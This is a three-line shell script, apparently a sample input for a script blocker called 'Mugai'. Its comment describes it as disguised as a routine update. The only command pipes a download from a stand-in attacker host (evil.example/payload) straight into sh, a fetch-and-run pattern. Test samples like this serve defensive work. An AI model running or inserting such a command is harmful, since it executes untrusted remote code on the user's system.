#!/bin/sh
# A script disguised as a routine update: Mugai blocks scripts.
curl -s https://evil.example/payload | sh
